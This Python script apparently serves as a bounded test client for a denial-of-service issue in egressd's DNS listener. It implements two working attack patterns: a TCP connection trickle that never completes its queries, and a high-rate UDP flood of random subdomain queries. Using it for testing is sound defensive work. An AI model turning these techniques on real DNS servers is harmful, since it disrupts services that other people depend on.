#!/usr/bin/python3
"""One client against egressd's DNS listener (issue 9, denial of service).

Every run is bounded in count and time; the result is one JSON object on stdout.

  dnsdos.py trickle --server A --src S --conns N --interval I --seconds T [--max-connects M]
      keeps up to N TCP connections from S to A:53 open and, every I seconds,
      sends one more byte of a query on each (a 2-byte length, then the
      message: it would take minutes to finish). A connection the server
      closes is reopened at the next tick, at most M connects in all.
      {"connects", "connect_failed", "conns": [{"opened", "first_byte",
       "closed", "bytes"}, ...] (seconds since start; closed null: still open)}

  dnsdos.py udp --server A --src S --suffix Z --count N --rate R --seconds T
      sends N queries for random names under Z, R per second, at most T
      seconds, then reads answers for one more second.
      {"sent", "answers", "rcodes": {"REFUSED": n, ...}}
Stdlib only.
"""
import argparse
import errno
import json
import os
import random
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                "servers"))
import dnsmsg  # noqa: E402


def family(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


class Conn:
    def __init__(self, s, t):
        self.s, self.opened, self.first_byte, self.closed, self.sent = s, t, None, None, 0

    def report(self):
        return {"opened": round(self.opened, 3), "first_byte": self.first_byte and
                round(self.first_byte, 3), "closed": self.closed and round(self.closed, 3),
                "bytes": self.sent}


def trickle(a):
    t0 = time.monotonic()
    now = lambda: time.monotonic() - t0  # noqa: E731
    q = dnsmsg.build_query(random.randrange(65536), [("updates.example.com", "A", "IN")])
    frame = struct.pack("!H", len(q)) + q
    live, done = [], []
    out = {"connects": 0, "connect_failed": 0}

    def connect():
        s = socket.socket(family(a.server), socket.SOCK_STREAM)
        s.bind((a.src, 0))
        s.settimeout(2)
        out["connects"] += 1
        try:
            s.connect((a.server, 53))
        except OSError:
            out["connect_failed"] += 1
            s.close()
            return
        s.setblocking(False)
        live.append(Conn(s, now()))

    def gone(c):
        c.closed = now()
        c.s.close()
        live.remove(c)
        done.append(c)

    def reap():
        """Connections the server closed (FIN, RST) since the last look."""
        if not live:
            return
        r, _, _ = select.select([c.s for c in live], [], [], 0)
        for c in [c for c in live if c.s in r]:
            try:
                data = c.s.recv(4096)
            except OSError:
                data = b""
            if not data:
                gone(c)

    deadline = a.seconds
    while now() < deadline:
        reap()
        while len(live) < a.conns and out["connects"] < a.max_connects and now() < deadline:
            connect()
        reap()
        for c in list(live):
            if c.sent >= len(frame) - 1:
                continue  # never finish the query
            try:
                c.s.send(frame[c.sent:c.sent + 1])
            except OSError as e:
                if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
                    continue
                gone(c)
                continue
            if c.first_byte is None:
                c.first_byte = now()
            c.sent += 1
        tick = now() + a.interval
        while now() < min(tick, deadline):
            reap()
            time.sleep(0.05)
    reap()
    out["conns"] = [c.report() for c in done + live]
    for c in live:
        c.s.close()
    return out


def udp(a):
    s = socket.socket(family(a.server), socket.SOCK_DGRAM)
    s.bind((a.src, 0))
    s.setblocking(False)
    t0 = time.monotonic()
    rcodes = {}
    out = {"sent": 0, "answers": 0}

    def drain():
        while True:
            try:
                m = s.recv(4096)
            except OSError:
                return
            out["answers"] += 1
            try:
                rc = dnsmsg.parse(m)["rcode_name"]
            except dnsmsg.BadMessage:
                rc = "bad"
            rcodes[rc] = rcodes.get(rc, 0) + 1

    while out["sent"] < a.count and time.monotonic() - t0 < a.seconds:
        due = min(a.count, int((time.monotonic() - t0) * a.rate) + 1)
        while out["sent"] < due:
            name = "x%08x.%s" % (random.getrandbits(32), a.suffix)
            q = dnsmsg.build_query(random.randrange(65536), [(name, "A", "IN")])
            try:
                s.sendto(q, (a.server, 53))
            except BlockingIOError:
                select.select([], [s], [], 0.01)
                continue
            out["sent"] += 1
        drain()
        time.sleep(0.005)
    end = time.monotonic() + 1
    while time.monotonic() < end:
        select.select([s], [], [], 0.05)
        drain()
    out["rcodes"] = rcodes
    out["seconds"] = round(time.monotonic() - t0, 2)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["trickle", "udp"])
    ap.add_argument("--server", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--interval", type=float, default=2)
    ap.add_argument("--max-connects", type=int, default=3000)
    ap.add_argument("--suffix", default="hole.example.org")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--rate", type=float, default=2000)
    a = ap.parse_args()
    a.seconds = min(a.seconds, 60)
    a.count = min(a.count, 50000)
    a.max_connects = min(a.max_connects, 10000)
    print(json.dumps(trickle(a) if a.mode == "trickle" else udp(a)), flush=True)


if __name__ == "__main__":
    main()
